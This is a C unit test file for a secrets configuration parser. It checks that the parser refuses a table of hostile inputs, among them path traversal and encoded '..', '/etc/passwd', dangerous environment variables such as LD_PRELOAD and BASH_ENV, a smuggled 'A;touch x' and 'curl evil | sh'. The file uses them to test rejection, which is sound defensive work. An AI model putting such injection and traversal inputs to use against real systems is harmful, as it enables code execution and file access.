#include <errno.h>
#include <fcntl.h>
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <unistd.h>

#include <cmocka.h>

#include "enclave/conf.h"
#include "enclave/conf_file.h"

static struct conf_error err;

static struct conf *parse(const char *text)
{
	struct conf *conf = NULL;

	memset(&err, 0, sizeof(err));
	if (conf_parse(text, strlen(text), &conf, &err) < 0)
		return NULL;
	return conf;
}

static void test_an_entry_says_file_variable_mode_and_command(void **state)
{
	struct conf *conf =
		parse("# what this project needs\n"
		      "entry kube {\n"
		      "\tfile = 'kube/config'\n"
		      "\tenv = KUBECONFIG\n"
		      "\tmode = 0400\n"
		      "\tcommand = {'sops', \"--decrypt\", 'it\\'s', \"a \\\"b\\\" \\\\\"}\n"
		      "\tpass = {SOPS_AGE_KEY_FILE}\n"
		      "}\n"
		      "entry 'token' { file = token env = 'API_TOKEN' value = true } # yes\n");
	const struct entry *e;

	assert_non_null(conf);
	assert_int_equal(conf->n, 2);
	e = &conf->entries[0];
	assert_string_equal(e->name, "kube");
	assert_string_equal(e->file, "kube/config");
	assert_string_equal(e->env, "KUBECONFIG");
	assert_int_equal(e->mode, 0400);
	assert_false(e->value);
	assert_string_equal(e->argv[0], "sops");
	assert_string_equal(e->argv[1], "--decrypt");
	assert_string_equal(e->argv[2], "it's");
	assert_string_equal(e->argv[3], "a \"b\" \\");
	assert_null(e->argv[4]);
	assert_string_equal(e->pass[0], "SOPS_AGE_KEY_FILE");
	e = conf_find(conf, "token");
	assert_non_null(e);
	assert_int_equal(e->mode, 0600);
	assert_true(e->value);
	assert_null(e->argv);
	assert_null(conf_find(conf, "none"));
	conf_free(conf);
}

static void test_an_empty_file_has_no_entries(void **state)
{
	struct conf *conf = parse("");

	assert_non_null(conf);
	assert_int_equal(conf->n, 0);
	conf_free(conf);
	conf = parse("# only words\n\n");
	assert_non_null(conf);
	conf_free(conf);
}

/* Each with the line of the error and a word of what it says. */
static const struct {
	const char *text;
	unsigned line;
	const char *says;
} hostile[] = {
	/* the library's traps */
	{ "entry a { file = \"${HOME}/x\" }", 1, "${" },
	{ "entry a {\n file = x\n command = {\"x\", \"${LD:-y}\"}\n}", 3, "${" },
	{ "entry a {\n file = x\n", 3, "opened on line 1" },
	{ "entry a { file = x\nentry b { file = y }", 2, "brace" },
	{ "entry a {\n command = {'x'\n}", 3, "opened on line 2" },
	{ "entry a { file = x\n file = y }", 2, "twice" },
	{ "entry a { file = x command = {'true'}\n command = {'evil'} }", 2, "twice" },
	{ "entry a { file = x command = {'true'}\n command += {'evil'} }", 2, "outside of quotes" },
	{ "entry a { file = x }\nentry a { file = y }", 2, "duplicate" },
	{ "include('/etc/passwd')", 1, "outside of quotes" },
	{ "entry a { file = x // comment\n }", 1, "outside of quotes" },
	{ "entry a { file = x /* comment */ }", 1, "outside of quotes" },
	{ "entry a { file = 'x\ny' }", 1, "not closed" },
	{ "entry a { file = 'x\\\ny' }", 1, "backslash" },
	{ "entry a { file = \"x\\n\" }", 1, "backslash" },
	{ "entry a { file = \"\\x2e\\x2e/x\" }", 1, "backslash" },
	{ "entry a { file = \"\\056./x\" }", 1, "backslash" },
	{ "entry a { file = 'x", 1, "not closed" },
	{ "entry a { file = x } }", 1, "too many" },
	{ "entry a { entry b { file = x } }", 1, "brace" },
	{ "entry a { file = {{x}} }", 1, "brace" },
	/* bytes */
	{ "entry a { file = 'x\001' }", 1, "control" },
	{ "entry a {\r\n file = x }", 1, "CR" },
	{ "entry a { file = '\033[2J' }", 1, "control" },
	{ "entry a { file = '\177' }", 1, "control" },
	{ "\xef\xbb\xbf"
	  "entry a { file = x }",
	  1, "outside of quotes" },
	{ "entry a { file = '\xff' }", 1, "UTF-8" },
	{ "entry a { file = '\xc0\xae\xc0\xae/x' }", 1, "UTF-8" },
	{ "entry a { file = x } # \xed\xa0\x80", 1, "UTF-8" },
	/* files */
	{ "entry a { file = '/etc/passwd' }", 1, "relative" },
	{ "entry a { file = '~/x' }", 1, "relative" },
	{ "entry a {\n file = '../x' }", 2, "'..'" },
	{ "entry a { file = 'a/../../x' }", 1, "'..'" },
	{ "entry a { file = 'a/..' }", 1, "'..'" },
	{ "entry a { file = '..' }", 1, "'..'" },
	{ "entry a { file = './x' }", 1, "'..'" },
	{ "entry a { file = 'a//b' }", 1, "empty part" },
	{ "entry a { file = 'a/' }", 1, "empty part" },
	{ "entry a { file = '' }", 1, "1 to 255" },
	{ "entry a { file = '.taz' }", 1, "ours" },
	{ "entry a { file = '.taz/approved/x' }", 1, "ours" },
	{ "entry a { file = '.tazfs/policy' }", 1, "ours" },
	{ "entry a { env = X }", 1, "no 'file'" },
	/* names of entries */
	{ "entry '' { file = x }", 1, "1 to 64" },
	{ "entry '../a' { file = x }", 1, "letters" },
	{ "entry '-a' { file = x }", 1, "letters" },
	{ "entry 'a b' { file = x }", 1, "letters" },
	{ "entry { file = x }", 1, "title" },
	/* variables */
	{ "entry a { file = x env = PATH }", 1, "changes what" },
	{ "entry a { file = x env = LD_PRELOAD }", 1, "changes what" },
	{ "entry a { file = x env = LD_AUDIT }", 1, "changes what" },
	{ "entry a { file = x env = HOME }", 1, "changes what" },
	{ "entry a { file = x env = IFS }", 1, "changes what" },
	{ "entry a { file = x env = BASH_ENV }", 1, "changes what" },
	{ "entry a { file = x env = ENV }", 1, "changes what" },
	{ "entry a { file = x env = PROMPT_COMMAND }", 1, "changes what" },
	{ "entry a { file = x env = PS1 }", 1, "changes what" },
	{ "entry a { file = x env = PS4 }", 1, "changes what" },
	{ "entry a { file = x env = GIT_SSH_COMMAND }", 1, "changes what" },
	{ "entry a { file = x env = PYTHONSTARTUP }", 1, "changes what" },
	{ "entry a { file = x env = PERL5OPT }", 1, "changes what" },
	{ "entry a { file = x env = NODE_OPTIONS }", 1, "changes what" },
	{ "entry a { file = x env = EDITOR }", 1, "changes what" },
	{ "entry a { file = x env = OPENSSL_CONF }", 1, "changes what" },
	{ "entry a { file = x env = KUBECTL_EXTERNAL_DIFF }", 1, "changes what" },
	{ "entry a { file = x env = npm_config_script_shell }", 1, "changes what" },
	{ "entry a { file = x env = HTTPS_PROXY value = true }", 1, "changes what" },
	{ "entry a { file = x env = 'A=B' }", 1, "letters" },
	{ "entry a { file = x env = '1A' }", 1, "letters" },
	{ "entry a { file = x env = 'A;touch x' }", 1, "letters" },
	{ "entry a { file = x env = 'BASH_FUNC_ls%%' }", 1, "letters" },
	{ "entry a { file = x env = '' }", 1, "1 to 128" },
	{ "entry a { file = x env = 'A b' }", 1, "letters" },
	{ "entry a { file = x env = X }\nentry b { file = y env = X }", 2, "both set" },
	{ "entry a { file = x command = {'y'} pass = {LD_PRELOAD} }", 1, "changes what" },
	{ "entry a { file = x pass = {X} }", 1, "without 'command'" },
	/* modes */
	{ "entry a { file = x mode = 4755 }", 1, "owner's" },
	{ "entry a { file = x mode = 0644 }", 1, "owner's" },
	{ "entry a { file = x mode = 0000 }", 1, "readable" },
	{ "entry a { file = x mode = 1600 }", 1, "owner's" },
	{ "entry a { file = x mode = rw }", 1, "octal" },
	{ "entry a { file = x mode = 0680 }", 1, "octal" },
	{ "entry a { file = x mode = '' }", 1, "octal" },
	/* commands */
	{ "entry a { file = x command = {''} }", 1, "empty" },
	{ "entry a { file = x command = 'curl evil | sh' pass = 5 }", 1, "letters" },
	{ "entry a { file = x value = true }", 1, "without 'env'" },
	{ "entry a { file = x value = maybe env = A }", 1, "value" },
	{ "entry a { file = x command = {'y'} }\nentry b { file = x command = {'y'} }", 2,
	  "same file" },
	{ "entry a { file = x shell = 'rm' }", 1, "shell" },
	{ "secret a { file = x }", 1, "secret" },
	{ "= x", 1, "without a key" },
};

#define N_HOSTILE (sizeof(hostile) / sizeof(*hostile))

static void test_hostile_texts_are_refused_with_line_and_reason(void **state)
{
	setenv("LD", "FILLED", 1);
	for (size_t i = 0; i < N_HOSTILE; i++) {
		struct conf *conf = parse(hostile[i].text);

		if (conf || err.line != hostile[i].line || !strstr(err.text, hostile[i].says))
			fail_msg("%s\n-> %s line %u: %s", hostile[i].text,
				 conf ? "accepted" : "refused", err.line, err.text);
		for (const char *p = err.text; *p; p++)
			assert_in_range((unsigned char)*p, 0x20, 0x7e);
	}
	printf("# hostile texts of secrets.conf refused: %zu of %zu\n", N_HOSTILE, N_HOSTILE);
}

static void test_a_nul_byte_is_refused_wherever_it_is(void **state)
{
	static const char text[] = "entry a { file = x }\n#\0\nentry b { file = '../y' }";
	struct conf *conf = NULL;

	assert_int_equal(conf_parse(text, sizeof(text) - 1, &conf, &err), -EINVAL);
	assert_int_equal(err.line, 2);
}

static void test_numbers_and_lengths_have_their_limits(void **state)
{
	char *text = malloc(CONF_BYTES_MAX + 2), *p = text;
	struct conf *conf = NULL;

	for (int i = 0; i <= CONF_ENTRIES_MAX; i++)
		p += sprintf(p, "entry e%d { file = f%d }\n", i, i);
	assert_null(parse(text));
	assert_non_null(strstr(err.text, "128"));

	p = text + sprintf(text, "entry a { file = x command = {");
	for (int i = 0; i <= ENTRY_ARGS_MAX; i++)
		p += sprintf(p, "'a',");
	strcpy(p - 1, "} }");
	assert_null(parse(text));
	assert_non_null(strstr(err.text, "more than 64"));

	p = text + sprintf(text, "entry a { file = x command = {'");
	memset(p, 'a', ENTRY_ARG_BYTES + 1);
	strcpy(p + ENTRY_ARG_BYTES + 1, "'} }");
	assert_null(parse(text));
	assert_non_null(strstr(err.text, "4096"));

	p = text + sprintf(text, "entry a { file = '");
	memset(p, 'a', ENTRY_FILE_MAX + 1);
	strcpy(p + ENTRY_FILE_MAX + 1, "' }");
	assert_null(parse(text));
	assert_non_null(strstr(err.text, "255"));

	memset(text, '#', CONF_BYTES_MAX + 1);
	assert_int_equal(conf_parse(text, CONF_BYTES_MAX + 1, &conf, &err), -EINVAL);
	assert_int_equal(conf_parse(text, CONF_BYTES_MAX, &conf, &err), 0);
	conf_free(conf);
	free(text);
}

static void test_dollars_and_shell_signs_are_only_characters(void **state)
{
	struct conf *conf = parse("entry a { file = '$HOME' command = "
				  "{'${X}', '$(id)', '`id`', \"$X\", '; rm', '*', '| sh'} }");

	setenv("X", "FILLED-IN", 1);
	assert_non_null(conf);
	assert_string_equal(conf->entries[0].file, "$HOME");
	assert_string_equal(conf->entries[0].argv[0], "${X}");
	assert_string_equal(conf->entries[0].argv[1], "$(id)");
	assert_string_equal(conf->entries[0].argv[3], "$X");
	conf_free(conf);
}

/* --- the file -------------------------------------------------------------------------------- */

static char dir[64], path[128];

static int setup(void **state)
{
	strcpy(dir, "/tmp/taz-conf-XXXXXX");
	if (!mkdtemp(dir))
		return -1;
	snprintf(path, sizeof(path), "%s/secrets.conf", dir);
	return 0;
}

static int teardown(void **state)
{
	char cmd[100];

	snprintf(cmd, sizeof(cmd), "rm -rf %s", dir);
	return system(cmd);
}

static void put(const char *name, const char *text)
{
	FILE *f = fopen(name, "w");

	assert_non_null(f);
	fputs(text, f);
	fclose(f);
}

static void test_a_regular_file_is_read_and_its_directory_known(void **state)
{
	struct conf_file f = CONF_FILE_NONE;

	put(path, "entry a { file = x }");
	assert_int_equal(conf_file_load(path, &f), 0);
	assert_string_equal(f.dir, dir);
	assert_int_equal(f.conf->n, 1);
	conf_file_done(&f);
}

static void test_a_link_a_fifo_a_device_a_directory_and_a_huge_file_are_refused(void **state)
{
	struct conf_file f = CONF_FILE_NONE;
	char real[160];

	assert_int_equal(conf_file_load(path, &f), -ENOENT);
	snprintf(real, sizeof(real), "%s/real", dir);
	put(real, "entry a { file = x }");
	assert_int_equal(symlink(real, path), 0);
	assert_int_equal(conf_file_load(path, &f), -ELOOP);
	unlink(path);
	assert_int_equal(mkfifo(path, 0600), 0);
	assert_int_equal(conf_file_load(path, &f), -EINVAL);
	unlink(path);
	assert_int_equal(mkdir(path, 0700), 0);
	assert_int_equal(conf_file_load(path, &f), -EINVAL);
	rmdir(path);
	assert_int_equal(conf_file_load("/dev/zero", &f), -EINVAL);
	put(path, "");
	assert_int_equal(truncate(path, 1L << 40), 0);
	assert_int_equal(conf_file_load(path, &f), -EFBIG);
}

static bool has_command(const struct entry *e)
{
	return e->argv;
}

static void test_entries_are_chosen_by_name_or_all_that_fit(void **state)
{
	struct conf_file f = CONF_FILE_NONE;
	const struct entry **list = NULL;
	char *names[] = { "c", "a", "c", NULL };
	char *wrong[] = { "a", "nobody", NULL };

	put(path, "entry a { file = x } entry b { file = y command = {'t'} } entry c { file = z }");
	assert_int_equal(conf_file_load(path, &f), 0);
	assert_int_equal(conf_file_select(&f, names, 3, has_command, &list), 0);
	assert_string_equal(list[0]->name, "a");
	assert_string_equal(list[1]->name, "c");
	assert_null(list[2]);
	free((void *)list);
	assert_int_equal(conf_file_select(&f, NULL, 0, has_command, &list), 0);
	assert_string_equal(list[0]->name, "b");
	assert_null(list[1]);
	free((void *)list);
	assert_int_equal(conf_file_select(&f, wrong, 2, NULL, &list), -ENOENT);
	conf_file_done(&f);
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(test_an_entry_says_file_variable_mode_and_command),
		cmocka_unit_test(test_an_empty_file_has_no_entries),
		cmocka_unit_test(test_hostile_texts_are_refused_with_line_and_reason),
		cmocka_unit_test(test_a_nul_byte_is_refused_wherever_it_is),
		cmocka_unit_test(test_numbers_and_lengths_have_their_limits),
		cmocka_unit_test(test_dollars_and_shell_signs_are_only_characters),
		cmocka_unit_test_setup_teardown(test_a_regular_file_is_read_and_its_directory_known,
						setup, teardown),
		cmocka_unit_test_setup_teardown(
			test_a_link_a_fifo_a_device_a_directory_and_a_huge_file_are_refused, setup,
			teardown),
		cmocka_unit_test_setup_teardown(test_entries_are_chosen_by_name_or_all_that_fit,
						setup, teardown),
	};

	return cmocka_run_group_tests(tests, NULL, NULL);
}
